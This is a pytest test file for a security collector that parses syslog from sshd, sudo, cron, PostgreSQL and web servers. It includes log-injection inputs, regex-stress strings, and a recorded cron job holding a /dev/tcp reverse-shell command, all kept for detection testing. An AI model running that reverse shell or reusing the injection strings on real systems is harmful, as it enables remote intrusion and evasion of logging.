"""Fields and logsource of the programs that we know, as facts and on recordings of the real daemons."""

from collections import Counter
from pathlib import Path
from time import process_time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.fields import MAX_VALUE
from collectors.fields.sudo import READINGS
from collectors.syslog import parse
from soc.events import Event, LogSource
from soc.testing import NOW

RECORDINGS = Path(__file__).parents[2] / "deploy" / "recordings"


def of(program: str, message: str, facility: int = 4) -> Event:
    raw = f"<{8 * facility + 6}>Sep  2 03:04:05 web01 {program}: {message}".encode()
    return parse(raw, received=NOW, site="s")


def recorded(name: str) -> list[Event]:
    lines = (RECORDINGS / f"{name}.log").read_bytes().splitlines()
    return [parse(line, received=NOW, site="s") for line in lines]


def has(event: Event, **wanted: Any) -> bool:
    return {name: event.fields.get(name) for name in wanted} == wanted


AT = {"SourceIp": "203.0.113.7", "SourcePort": 4242}


@pytest.mark.parametrize(
    ("message", "fields"),
    [
        ("Failed password for root from 203.0.113.7 port 4242 ssh2", {"User": "root", "AuthMethod": "password", "Action": "login_failed", **AT}),
        ("Failed none for invalid user a b from 203.0.113.7 port 4242 ssh2", {"User": "a b", "AuthMethod": "none", "Action": "login_failed", **AT}),
        ("Accepted publickey for bob from 203.0.113.7 port 4242 ssh2: ED25519 SHA256:abc", {"User": "bob", "AuthMethod": "publickey", "Action": "login_accepted", **AT}),
        ("Invalid user  from 203.0.113.7 port 4242", {"User": "", "Action": "invalid_user", **AT}),
        ("Connection closed by 203.0.113.7 port 4242 [preauth]", {"Action": "connection_closed", **AT}),
        ("Connection reset by authenticating user root 203.0.113.7 port 4242 [preauth]", {"User": "root", "Action": "connection_closed", **AT}),
        ("error: maximum authentication attempts exceeded for invalid user x from 203.0.113.7 port 4242 ssh2 [preauth]", {"User": "x", "Action": "max_auth_exceeded", **AT}),
        ("Bad protocol version identification 'GET / HTTP/1.0' from 203.0.113.7 port 4242", {"Action": "bad_protocol", **AT}),
        ("Did not receive identification string from 203.0.113.7 port 4242", {"Action": "no_identification", **AT}),
        ("drop connection #0 from [203.0.113.7]:4242 on [192.0.2.1]:22 penalty: failed authentication", {"Action": "connection_dropped", **AT}),
        ("message repeated 2 times: [ Failed password for root from 203.0.113.7 port 4242 ssh2]", {"RepeatCount": 2, "User": "root", "Action": "login_failed", **AT}),
    ],
)  # fmt: skip
def test_sshd(message: str, fields: dict[str, Any]) -> None:
    """Messages of OpenSSH 9 and 10."""
    for program in ("sshd[1]", "sshd-session[1]", "/usr/sbin/sshd[1]"):
        event = of(program, message)
        assert event.logsource == LogSource("linux", None, "sshd")
        assert has(event, **fields)


def test_a_user_name_cannot_pass_for_the_address() -> None:
    """The client chooses its user name: the address is the last one, which sshd wrote."""
    for name in (
        "root from 192.0.2.1 port 22",
        "root from 192.0.2.1 port 22 ssh2: x",
        "root from 192.0.2.1 port 22 ssh2",
    ):
        event = of("sshd[1]", f"Failed password for invalid user {name} from 203.0.113.7 port 4242 ssh2")
        assert has(event, User=name, **AT)
        event = of("sshd[1]", f"Connection closed by invalid user {name} 203.0.113.7 port 4242 [preauth]")
        assert has(event, User=name, **AT)


@given(st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), max_size=60))
def test_any_user_name_is_kept_apart(name: str) -> None:
    """Whatever the user name, the address is sshd's."""
    event = of("sshd[1]", f"Failed password for invalid user {name} from 203.0.113.7 port 4242 ssh2")
    assert has(event, Action="login_failed", **AT)


CERTIFICATE = "ED25519-CERT SHA256:abc ID {id} (serial 0) CA ED25519 SHA256:def"


@pytest.mark.parametrize(("outcome", "action"), [("Failed", "login_failed"), ("Accepted", "login_accepted")])
def test_a_certificates_id_cannot_pass_for_the_address(outcome: str, action: str) -> None:
    """Whoever makes a certificate writes its ID, which sshd logs behind the address of a user that exists."""
    key = CERTIFICATE.format(id="x from 192.0.2.1 port 22 ssh2: y")
    event = of("sshd[1]", f"{outcome} publickey for root from 203.0.113.7 port 4242 ssh2: {key}")
    assert has(event, User="root", Action=action, **AT)


def test_a_user_name_changed_midway_cannot_pass_for_the_address() -> None:
    """The log has both names that the client gave, the second one behind the address."""
    text = "Change of username or service not allowed: ({},ssh-connection) -> ({},ssh-connection) [preauth]"
    for second in ("b", "x 192.0.2.1 port 22: y"):
        event = of("sshd[1]", f"Disconnecting invalid user a 203.0.113.7 port 4242: {text.format('a', second)}")
        assert has(event, User="a", Action="disconnecting", Reason="Change of username or service not allowed", **AT)
    hostile = "a 192.0.2.1 port 22: Change of username or service not allowed: "
    for first, second in ((hostile, "b"), ("b", hostile)):
        event = of("sshd[1]", f"Disconnecting invalid user {first} 203.0.113.7 port 4242: {text.format(first, second)}")
        assert "SourceIp" not in event.fields


def test_a_remote_user_cannot_pass_for_the_address() -> None:
    """An FTP server logs as ruser what the client says that it is called."""
    head = "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp"
    for name in ("bob", "bob rhost=192.0.2.1 user=x", "bob rhost=192.0.2.1"):
        event = of("vsftpd", f"{head} ruser={name} rhost=203.0.113.7  user=root", 10)
        assert has(event, Action="pam_auth_failure", SourceIp="203.0.113.7")


LONG = 60_000


@pytest.mark.parametrize(
    ("program", "message"),
    [
        ("sshd[1]", "reverse mapping checking getaddrinfo for " + " [" * (LONG // 2)),
        ("postgres[1]", "]" * LONG + "LOG:  x"),
        ("postgres[1]", "]a@" * (LONG // 3) + "LOG:  x"),
        ("postgres[1]", " a@" * (LONG // 3) + "LOG:  x"),
        ("sshd[1]", "Failed password for " + " from a port 1 ssh2: " * (LONG // 21)),
        ("nginx", ' [x] "' * (LONG // 6)),
        ("sudo", "a : " + " ; COMMAND=" * (LONG // 11)),
        ("su", "pam_unix(su:session): session opened for user " + " by (uid=1" * (LONG // 10)),
    ],
)
def test_hostile_text_takes_linear_time(program: str, message: str) -> None:
    """One datagram must not hold the collector up, for then the kernel drops the others'."""
    before = process_time()
    of(program, message)
    assert process_time() - before < 1


def test_sshd_recording() -> None:
    """The attack of the recording, counted: guesses by address, the login that worked, and no line lost."""
    events = [event for event in recorded("sshd") if event.logsource.service == "sshd"]
    assert len(events) == 193
    failed = Counter(event.fields["SourceIp"] for event in events if event.fields.get("Action") == "login_failed")
    assert failed["198.51.100.23"] == 20
    accepted = [event.fields for event in events if event.fields.get("Action") == "login_accepted"]
    assert {"root", "alice", "bob"} == {fields["User"] for fields in accepted}
    assert "2001:db8::51" in {fields["SourceIp"] for fields in accepted}
    without = [event.fields["message"] for event in events if "Action" not in event.fields]
    assert without == ["PAM service(sshd) ignoring max retries; 4 > 3"]


@pytest.mark.parametrize(
    ("message", "fields"),
    [
        ("   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c 'a ; USER=bob'", {"User": "alice", "TerminalName": "pts/0", "CurrentDirectory": "/home/alice", "TargetUser": "root", "CommandLine": "/bin/sh -c 'a ; USER=bob'", "Action": "command", "Reason": None}),
        ("bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id", {"User": "bob", "Reason": "3 incorrect password attempts", "Action": "command_refused"}),
        ("bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id", {"Reason": "user NOT in sudoers"}),
        ("bob : command not allowed ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id", {"Reason": "command not allowed"}),
        ("pam_unix(sudo:auth): authentication failure; logname=bob uid=1 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob", {"User": "bob", "Action": "pam_auth_failure"}),
    ],
)  # fmt: skip
def test_sudo(message: str, fields: dict[str, Any]) -> None:
    """What sudo runs and what it refuses."""
    event = of("sudo", message)
    assert event.logsource == LogSource("linux", None, "sudo")
    assert has(event, **fields)


@pytest.mark.parametrize(
    ("folder", "command"),
    [
        ("/tmp/a ; b", "/bin/bash"),
        ("/tmp/a ; USER=nobody", "/bin/bash"),
        ("/tmp/a ; USER=nobody ; COMMAND=/bin/true", "/bin/bash"),
        ("/tmp/a ; USER=nobody ; COMMAND=/bin/true", "/bin/bash ; USER=x ; COMMAND=y"),
        ("/tmp/a ; 3 incorrect password attempts ; USER=nobody", "/bin/bash"),
    ],
)
def test_a_folders_name_cannot_hide_a_sudo_command(folder: str, command: str) -> None:
    """Who may name folders may imitate entries: where a line can be read in several ways, each is a value."""
    fields = of("sudo", f"mallory : TTY=pts/0 ; PWD={folder} ; USER=root ; COMMAND={command}").fields
    assert "root" in ([fields["TargetUser"]] if isinstance(fields["TargetUser"], str) else fields["TargetUser"])
    commands = [fields["CommandLine"]] if isinstance(fields["CommandLine"], str) else fields["CommandLine"]
    assert command in commands
    assert fields["Action"] == "command"
    assert "Reason" not in fields


def test_readings_of_a_sudo_line_are_bounded() -> None:
    """Nobody makes a message of 64 KiB an event of gigabytes."""
    fields = of("sudo", "a : " + " ; COMMAND=a ; USER=b" * 2_000).fields
    assert len(fields["CommandLine"]) == READINGS


def test_a_sudo_user_with_a_space() -> None:
    """Directory services have such names."""
    event = of("sudo", "EXAMPLE\\jane doe : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")
    assert has(event, User="EXAMPLE\\jane doe", TargetUser="root", CommandLine="/bin/sh")


def test_sudo_recording() -> None:
    """Each command of the recording is there with its user."""
    events = [event for event in recorded("sudo") if event.logsource.service == "sudo"]
    commands = [event.fields for event in events if "CommandLine" in event.fields]
    assert len(commands) == 36
    assert all(
        {"User", "TargetUser", "CurrentDirectory", "TerminalName", "Action"} <= fields.keys() for fields in commands
    )
    reasons = {fields["Reason"] for fields in commands if "Reason" in fields}
    assert {"user NOT in sudoers", "3 incorrect password attempts", "command not allowed"} <= reasons
    assert all("Action" in event.fields for event in events)


def test_cron_recording() -> None:
    """Jobs with their users and commands, and the tables that were changed."""
    events = [event for event in recorded("cron") if event.logsource.service == "cron"]
    assert len(events) == 105
    assert all("Action" in event.fields for event in events)
    jobs = {(e.fields["User"], e.fields["CommandLine"]) for e in events if e.fields["Action"] == "CMD"}
    assert ("root", "cd / && run-parts --report /etc/cron.hourly") in jobs
    assert ("www-data", "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'") in jobs
    tables = {(e.fields["User"], e.fields["Action"], e.fields.get("TargetUser")) for e in events}
    assert {("root", "REPLACE", "www-data"), ("bob", "DELETE", "bob"), ("alice", "BEGIN EDIT", "alice")} <= tables
    assert has(of("cron[1]", "(*system*) RELOAD (/etc/crontab)"), Action="RELOAD", Detail="/etc/crontab")


def test_auth_recording() -> None:
    """Users made and removed, group members, su that worked and that did not."""
    events = [event for event in recorded("auth") if event.logsource.service == "auth"]
    assert len(events) == 30
    assert any(has(e, Action="user_added", TargetUser="sysd", UID=0) for e in events)
    assert any(has(e, Action="group_member_added", TargetUser="bob", TargetGroup="sudo") for e in events)
    assert any(has(e, Action="su_failed", User="bob", TargetUser="root") for e in events)
    assert any(has(e, Action="user_deleted", TargetUser="carol") for e in events)


LINE = '203.0.113.7 - {user} [22/Nov/2026:10:00:00 +0700] "{request}" 404 153 "{referer}" "{agent}"'


def access(request: str, program: str = "nginx", user: str = "-", referer: str = "-", agent: str = "curl/8") -> Event:
    return of(program, LINE.format(request=request, user=user, referer=referer, agent=agent), 23)


def test_web_access() -> None:
    """A combined log line in the taxonomy's names; numbers are numbers."""
    event = access("GET /a/b?x=1&y=?z HTTP/1.1", user="alice", referer="http://h/", agent="a \\x22b\\x22")
    assert event.logsource == LogSource(None, "webserver", "nginx")
    names = ("c-ip", "cs-username", "cs-method", "cs-uri", "cs-uri-stem", "cs-uri-query", "cs-version")
    assert [event.fields[name] for name in names] == [
        "203.0.113.7",
        "alice",
        "GET",
        "/a/b?x=1&y=?z",
        "/a/b",
        "x=1&y=?z",
        "HTTP/1.1",
    ]
    assert (event.fields["sc-status"], event.fields["sc-bytes"]) == (404, 153)
    assert (event.fields["cs-referer"], event.fields["cs-user-agent"]) == ("http://h/", "a \\x22b\\x22")


def test_web_requests_that_are_none() -> None:
    """What is not HTTP is kept as cs-uri; a request without version too; an empty one has no cs-uri."""
    assert access("\\x16\\x03\\x01").fields["cs-uri"] == "\\x16\\x03\\x01"
    assert "cs-method" not in access("\\x16\\x03\\x01").fields
    assert access("GET /old").fields["cs-uri-stem"] == "/old"
    assert access("GET /a b HTTP/1.1").fields["cs-uri-stem"] == "/a b"
    assert "cs-uri" not in access("-").fields


def test_apache_and_error_logs() -> None:
    """Apache's escapes and virtual host are understood; an error log line is plain syslog."""
    event = of("apache2", 'h:80 2001:db8::1 - - [x] "GET /\\"a HTTP/1.0" 200 - "-" "-"', 23)
    assert event.logsource == LogSource(None, "webserver", "apache")
    assert event.fields["c-ip"] == "2001:db8::1"
    assert event.fields["cs-uri"] == '/\\"a'
    assert "sc-bytes" not in event.fields
    assert of("nginx", "2026/11/22 10:00:00 [error] 1#1: x", 23).logsource == LogSource("linux", None, "syslog")


def test_nginx_recording() -> None:
    """Each line is an access, whatever the scanners sent."""
    events = recorded("nginx")
    assert {event.logsource for event in events} == {LogSource(None, "webserver", "nginx")}
    assert len(events) == 207
    stems = {event.fields.get("cs-uri-stem") for event in events}
    assert {"/.env", "/.git/config", "/products"} <= stems
    assert any(event.fields.get("cs-username") == "alice" for event in events)


@pytest.mark.parametrize(
    ("message", "fields"),
    [
        ('[5-1] 2026-11-22 10:00:00.1 +07 [9] postgres@app FATAL:  password authentication failed for user "postgres"', {"User": "postgres", "Database": "app", "LogSeverity": "FATAL", "Action": "auth_failed"}),
        ('[5-1] 2026 [9]: user=a,db=b,app=x,client=203.0.113.7,sqlstate=28P01 FATAL:  password authentication failed for user "a"', {"User": "a", "Database": "b", "SourceIp": "203.0.113.7", "SqlState": "28P01", "Action": "auth_failed"}),
        ('FATAL:  no pg_hba.conf entry for host "203.0.113.7", user "u", database "d", no encryption', {"SourceIp": "203.0.113.7", "User": "u", "Database": "d", "Action": "no_hba_entry"}),
        ('FATAL:  role "ghost" does not exist', {"User": "ghost", "Action": "role_missing"}),
        ('FATAL:  database "none" does not exist', {"Database": "none", "Action": "database_missing"}),
        ('[9] alice@EXAMPLE.ORG@app FATAL:  password authentication failed for user "alice@EXAMPLE.ORG"', {"User": "alice@EXAMPLE.ORG", "Database": "app", "Action": "auth_failed"}),
        ("[unknown]@[unknown] LOG:  connection received: host=203.0.113.7 port=4242", {"User": None, "Database": None, **AT}),
        ("ERROR:  permission denied for table salaries", {"Action": "permission_denied"}),
        ('ERROR:  syntax error at or near "SELEC" at character 1', {"Action": "syntax_error"}),
        ("LOG:  connection received: host=203.0.113.7 port=4242", {"Action": "connection_received", **AT}),
        ("LOG:  connection authorized: user=u database=d SSL enabled (protocol=TLSv1.3)", {"User": "u", "Database": "d", "Action": "connection_authorized"}),
        ("LOG:  disconnection: session time: 0:00:00.005 user=u database=d host=203.0.113.7 port=4242", {"User": "u", "Database": "d", "Action": "disconnection", **AT}),
        ("LOG:  statement: DROP TABLE x", {"Statement": "DROP TABLE x", "Action": "statement"}),
    ],
)  # fmt: skip
def test_postgresql(message: str, fields: dict[str, Any]) -> None:
    """PostgreSQL's messages behind different prefixes."""
    event = of("postgres[9]", message, 16)
    assert event.logsource == LogSource("postgresql", "database", None)
    assert has(event, **fields)


def test_postgresql_recording() -> None:
    """Both prefixes of the recording give the same story."""
    events = [event for event in recorded("postgresql") if event.logsource.product == "postgresql"]
    actions = Counter(event.fields.get("Action") for event in events)
    assert actions["auth_failed"] == 20
    assert actions["no_hba_entry"] == 4
    assert actions["role_missing"] >= 1
    assert {"database_missing", "permission_denied", "syntax_error", "statement", "disconnection"} <= set(actions)
    assert all("LogSeverity" in e.fields for e in events if "#011" not in e.fields["message"])


def test_other_programs() -> None:
    """Anything else keeps program and message; the facility tells auth from the rest."""
    assert of("myapp[3]", "hello", 1).logsource == LogSource("linux", None, "syslog")
    assert has(of("myapp[3]", "hello", 1), program="myapp", pid=3, message="hello", facility="user")
    assert of("myapp", "hello", 10).logsource == LogSource("linux", None, "auth")
    assert has(of("app", "x", 1), procid=None)


def test_values_are_bounded() -> None:
    """A field is cut, the message is not."""
    event = access("GET /" + "a" * 20_000 + " HTTP/1.1")
    assert len(event.fields["cs-uri"]) == MAX_VALUE
    assert len(event.fields["message"]) > 20_000
